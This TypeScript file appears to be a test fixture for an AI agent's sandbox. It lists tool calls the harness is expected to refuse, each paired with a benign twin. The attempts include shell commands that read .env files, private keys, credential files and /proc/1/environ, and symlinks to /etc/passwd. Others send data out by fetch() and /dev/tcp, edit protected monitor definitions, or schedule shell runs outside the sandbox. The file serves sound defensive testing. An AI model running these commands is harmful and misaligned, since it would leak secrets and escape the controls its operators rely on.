/** Out of the sandbox: the network, files with secrets, what runs later, runs outside. */
import { FILE, HIDDEN, LETTER, RECORD, type Attempt } from './attempt.ts';

const without: readonly Attempt[] = [
  {
    name: 'the network, by git',
    from: RECORD,
    calls: [
      ['code_git', { operation: 'push' }],
      ['code_git', { operation: 'fetch' }],
      ['code_git', { operation: 'pull', remote: '../other' }],
    ],
    refused: 'MODE_FORBIDS',
    twin: { call: ['code_git', { operation: 'log' }], gives: 'first' },
  },
  {
    name: 'the network, and code that runs beside the sandbox',
    from: LETTER,
    calls: [
      ['screenshot', { url: 'http://localhost:1/stolen' }],
      ['mcp_mailbox_post', { text: 'stolen' }],
      ['own_append', { line: 'stolen' }],
    ],
    refused: 'MODEL_CALLS_WRONG',
    twin: { call: ['own_count', { text: 'abc' }], gives: '3' },
  },
  {
    name: 'secrets, by a check',
    from: LETTER,
    calls: [
      ['code_verify', { path: 'leaking' }],
      ['code_verify', { testFile: 'leaking/leak.test.js' }],
    ],
    refused: { without: HIDDEN },
    twin: { call: ['code_verify', { path: 'checked' }], gives: 'node:test' },
  },
  {
    name: 'definitions, by edits and branches',
    from: FILE,
    calls: [
      ['code_edit', { path: 'sentinels/mine.json', old: 'mine', new: 'X' }],
      ['code_edit', { path: 'sentinel.config.ts', old: 'mailbox', new: 'X', all: true }],
      ['code_git', { operation: 'switch', branch: 'theirs' }],
    ],
    refused: 'PATH_PROTECTED',
    twin: { call: ['code_edit', { path: 'src/env.js', old: 'no secret', new: 'no secret at all' }], gives: '+// no' },
  },
  {
    name: 'secrets, by a program',
    from: FILE,
    calls: [
      ['code_shell_execute', { command: 'cat .env .env.local link.txt config/*.pem config/credentials.json; true' }],
      ['code_shell_execute', { command: 'cat .git/config .sentinel/postgres.password; grep -r nobody . ; true' }],
      ['code_shell_execute', { command: 'cat', args: ['.env'] }],
      ['code_shell_execute', { command: 'cat ../*/outside.txt out/outside.txt /proc/1/environ; true' }],
    ],
    refused: { without: HIDDEN },
    twin: { call: ['code_shell_execute', { command: 'cat .env.example' }], gives: 'SHOP_KEY=' },
  },
  {
    name: 'a folder outside to work in',
    from: FILE,
    calls: [
      ['code_shell_execute', { command: 'ls', cwd: '..' }],
      ['code_shell_execute', { command: 'ls', cwd: 'out' }],
      ['code_shell_execute', { command: 'ls', cwd: '/etc' }],
    ],
    refused: 'PATH_OUTSIDE_PROJECT',
    twin: { call: ['code_shell_execute', { command: 'ls', cwd: 'src' }], gives: 'app.js' },
  },
  {
    name: 'a link that an earlier call makes',
    from: RECORD,
    calls: [
      ['code_shell_execute', { command: 'ln -sf /etc/passwd passwd.txt; ln -sf .env plain.txt' }],
      ['code_read', { path: 'passwd.txt' }],
      ['code_read', { path: 'plain.txt' }],
    ],
    refused: { without: 'root:x:' },
    twin: { call: ['code_shell_execute', { command: 'ln -s src/app.js own.js && cat own.js' }], gives: 'serve()' },
  },
  {
    name: 'a definition, by a program',
    from: FILE,
    calls: [['code_shell_execute', { command: 'echo {} > sentinels/mine.json && echo written' }]],
    refused: { without: 'written\\n' },
    twin: { call: ['code_shell_execute', { command: 'echo {} > src/made.json && echo written' }], gives: 'written' },
  },
  {
    name: 'a run outside the sandbox',
    from: FILE,
    calls: [
      [
        'sentinel_run',
        {
          definition: {
            name: 'brought',
            mode: 'full',
            loop: { type: 'once' },
            steps: [{ type: 'shell', command: 'id' }],
          },
        },
      ],
      ['sentinel_create', { name: 'later', steps: [{ type: 'shell', command: 'id' }] }],
      ['sentinel_step_add', { sentinelId: '$HANDLE', index: 1, step: { type: 'shell', command: 'id' } }],
      ['sentinel_resume', { handle: '$HANDLE' }],
    ],
    refused: 'MODEL_CALLS_WRONG',
    twin: { call: ['sentinel_step_list', { sentinelId: '$HANDLE' }], gives: 'steps.1' },
  },
];

/** `url`: of a server on this host that would hear of it. */
export const inSandbox = (url: string): readonly Attempt[] => [
  {
    name: 'the network, by a program',
    from: FILE,
    calls: [
      ['code_shell_execute', { command: `node -e "fetch('${url}/stolen').then(() => console.log('sent'), () => 0)"` }],
      [
        'code_shell_execute',
        { command: `exec 3<>/dev/tcp/127.0.0.1/${new URL(url || 'http://x:1').port} && echo sent` },
      ],
    ],
    refused: { without: 'sent' },
    twin: { call: ['code_shell_execute', { command: 'cat src/app.js' }], gives: 'serve()' },
  },
  ...without,
];
